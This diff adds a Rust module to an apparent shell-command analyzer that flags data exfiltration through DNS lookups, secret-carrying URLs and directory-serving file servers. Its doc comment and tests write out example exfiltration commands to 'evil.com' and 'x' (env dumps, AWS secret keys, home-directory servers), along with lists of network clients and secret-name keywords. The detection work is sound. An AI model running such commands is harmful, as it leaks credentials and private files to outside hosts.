@@ -1,0 +1,254 @@
+//! Data carried out in shapes that are not uploads by option: DNS names built at run time
+//! (`dig $(whoami).evil.com`), URLs whose path or query carries the environment or a secret
+//! variable (`curl "https://x/?d=$(env|base64)"`, `wget "https://x/$AWS_SECRET_ACCESS_KEY"`),
+//! and file servers that publish a directory (`python3 -m http.server --directory ~`).
+//! Program knowledge is in the tables; [`crate::UploadFact`] and [`crate::ServeFact`] carry
+//! the result.
+
+use crate::analyzer::{Analyzer, Inv};
+use crate::model::Arg;
+use crate::paths;
+
+/// DNS clients whose operands are names to resolve (dig(1), host(1), nslookup(1), drill(1),
+/// kdig(1), delv(1), resolvectl(1) `query`, getent(1) `hosts`/`ahosts`).
+pub(crate) const DNS_CLIENTS: &[&str] = &[
+    "dig",
+    "host",
+    "nslookup",
+    "drill",
+    "kdig",
+    "delv",
+    "resolvectl",
+    "getent",
+];
+
+/// Programs whose operands are URLs fetched (curl(1), wget(1), HTTPie `http`/`https`, xh,
+/// curlie, aria2c(1), lynx/links/w3m `-dump`).
+pub(crate) const URL_CLIENTS: &[&str] = &[
+    "curl", "wget", "http", "https", "xh", "xhs", "curlie", "aria2c", "lynx", "links", "w3m",
+];
+
+/// Words in a variable name that mark a secret (upper-cased name contains one).
+pub(crate) const SECRET_NAME_PARTS: &[&str] = &[
+    "SECRET",
+    "TOKEN",
+    "PASSWORD",
+    "PASSWD",
+    "API_KEY",
+    "APIKEY",
+    "PRIVATE_KEY",
+    "ACCESS_KEY",
+    "CREDENTIAL",
+    "SESSION_KEY",
+    "AUTH_KEY",
+];
+
+/// True when a variable name looks like a secret's (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`).
+pub(crate) fn secret_name(name: &str) -> bool {
+    let u = name.to_ascii_uppercase();
+    SECRET_NAME_PARTS.iter().any(|p| u.contains(p))
+}
+
+/// The variable names referenced in a word as written (`$X`, `${X}`, `${X:-d}`).
+fn var_refs(raw: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let b = raw.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if b.get(i) == Some(&b'$') {
+            let mut j = i + 1;
+            if b.get(j) == Some(&b'{') {
+                j += 1;
+            }
+            let start = j;
+            while b
+                .get(j)
+                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
+            {
+                j += 1;
+            }
+            if j > start {
+                out.push(raw.get(start..j).unwrap_or("").to_string());
+            }
+            i = j.max(i + 1);
+        } else {
+            i += 1;
+        }
+    }
+    out
+}
+
+/// The statically known domain after a name's run-time part (`$(whoami).evil.com` →
+/// `evil.com`), when the run-time part comes first.
+fn static_suffix(arg: &Arg) -> Option<String> {
+    if !arg.dynamic || arg.known_prefix > 0 {
+        return None;
+    }
+    let raw = arg.raw.trim_matches(['"', '\'']);
+    let cut = raw.rfind([')', '}', '`']).map(|i| i + 1).or_else(|| {
+        // `$X.evil.com`: after the variable name.
+        let r = raw.strip_prefix('$')?;
+        Some(1 + r.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))?)
+    })?;
+    let suffix = raw.get(cut..)?.strip_prefix('.')?;
+    let ok = suffix.contains('.')
+        || suffix
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-')
+            && !suffix.is_empty();
+    (ok && !suffix.contains(['$', '(', '`', ' '])).then(|| suffix.to_string())
+}
+
+/// A DNS query whose name carries data computed at run time: an upload to the name's
+/// domain (source `<environment>` for an environment dump, `<dns label>` otherwise).
+pub(crate) fn dns_query(a: &mut Analyzer, name: &str, inv: &Inv) {
+    if !DNS_CLIENTS.contains(&name) {
+        return;
+    }
+    for op in inv.rest().iter().take(16) {
+        if op.text.starts_with(['-', '+', '@']) && !op.dynamic {
+            continue;
+        }
+        if let Some(domain) = static_suffix(op) {
+            let source = if op.taint.env_dump {
+                "<environment>".to_string()
+            } else if let Some(v) = var_refs(&op.raw).into_iter().find(|v| secret_name(v)) {
+                format!("<secret {v}>")
+            } else {
+                "<dns label>".to_string()
+            };
+            a.upload(name, &domain, Some(source), false, &inv.evidence);
+        }
+    }
+}
+
+/// A URL whose text carries the environment (`$(env)`, `$(printenv)`) or a secret-named
+/// variable: an upload of that secret to the URL.
+pub(crate) fn url_data(a: &mut Analyzer, name: &str, inv: &Inv) {
+    if !URL_CLIENTS.contains(&name) {
+        return;
+    }
+    for op in inv.rest().iter().take(32) {
+        if !op.raw.contains("://") && !op.text.contains("://") {
+            continue;
+        }
+        let source = if op.taint.env_dump {
+            Some("<environment>".to_string())
+        } else {
+            var_refs(&op.raw)
+                .into_iter()
+                .find(|v| secret_name(v))
+                .map(|v| format!("<secret {v}>"))
+        };
+        if let Some(s) = source {
+            let target = op
+                .text
+                .split(['?', '$'])
+                .next()
+                .unwrap_or(&op.text)
+                .to_string();
+            a.upload(name, &target, Some(s), false, &inv.evidence);
+        }
+    }
+}
+
+/// File servers: (program, module or verb that makes it serve (`""` = always), option naming
+/// the served root (`""` = first operand), the root is the cwd when not given). Sources:
+/// python(1) `http.server` (`--directory`/`-d`), Python 2 `SimpleHTTPServer`, php(1) `-S … -t`,
+/// busybox `httpd -h`, `http-server`/`serve` (npm), `ruby -run -e httpd`.
+pub(crate) const FILE_SERVERS: &[(&str, &str, &[&str])] = &[
+    ("python", "http.server", &["--directory", "-d"]),
+    ("python", "SimpleHTTPServer", &[]),
+    ("php", "-S", &["-t"]),
+    ("httpd", "", &["-h"]),
+    ("http-server", "", &[""]),
+    ("serve", "", &[""]),
+];
+
+/// Records the served root of a file server started by `program` (`python`, `php`, `httpd`,
+/// …) with `trigger` (the module or option that made it one) and its remaining words.
+pub(crate) fn file_server(
+    a: &mut Analyzer,
+    program: &str,
+    trigger: &str,
+    words: &[Arg],
+    inv: &Inv,
+) {
+    let Some((p, _, root_opts)) = FILE_SERVERS
+        .iter()
+        .find(|(p, t, _)| *p == program && (t.is_empty() || *t == trigger))
+    else {
+        return;
+    };
+    let mut root: Option<&Arg> = None;
+    let mut i = 0;
+    while let Some(w) = words.get(i) {
+        if root_opts.contains(&w.text.as_str()) {
+            root = words.get(i + 1);
+            break;
+        }
+        if root_opts.contains(&"")
+            && !w.text.starts_with('-')
+            && !w.text.chars().all(|c| c.is_ascii_digit())
+        {
+            root = Some(w);
+            break;
+        }
+        if w.text.starts_with("--directory=") {
+            root = Some(w);
+            break;
+        }
+        i += 1;
+    }
+    let r = match root {
+        Some(x) if x.text.starts_with("--directory=") => {
+            paths::resolve(&crate::opts::sub_arg(x, 12), &inv.cwd)
+        }
+        Some(x) => paths::resolve(x, &inv.cwd),
+        None => paths::Resolved {
+            path: inv.cwd.text.clone(),
+            dynamic: !inv.cwd.known,
+            glob: false,
+        },
+    };
+    let label = if trigger.is_empty() {
+        (*p).to_string()
+    } else {
+        format!("{p} {trigger}")
+    };
+    a.serve(&label, &r, &inv.evidence);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn secret_names() {
+        assert!(secret_name("AWS_SECRET_ACCESS_KEY"));
+        assert!(secret_name("GITHUB_TOKEN"));
+        assert!(secret_name("db_password"));
+        assert!(!secret_name("HOME"));
+        assert!(!secret_name("VERSION"));
+    }
+
+    #[test]
+    fn refs() {
+        assert_eq!(
+            var_refs("https://x/?a=$A&b=${B_TOKEN:-x}"),
+            ["A", "B_TOKEN"]
+        );
+    }
+
+    #[test]
+    fn suffixes() {
+        let mut a = Arg::unknown("$(whoami).evil.com", "$(whoami).evil.com");
+        a.text = "$(whoami).evil.com".into();
+        assert_eq!(static_suffix(&a).as_deref(), Some("evil.com"));
+        let b = Arg::unknown("$X.evil.com", "$X.evil.com");
+        assert_eq!(static_suffix(&b).as_deref(), Some("evil.com"));
+        let c = Arg::unknown("$DOMAIN", "\"$DOMAIN\"");
+        assert_eq!(static_suffix(&c), None);
+        assert_eq!(static_suffix(&Arg::lit("example.com")), None);
+    }
+}
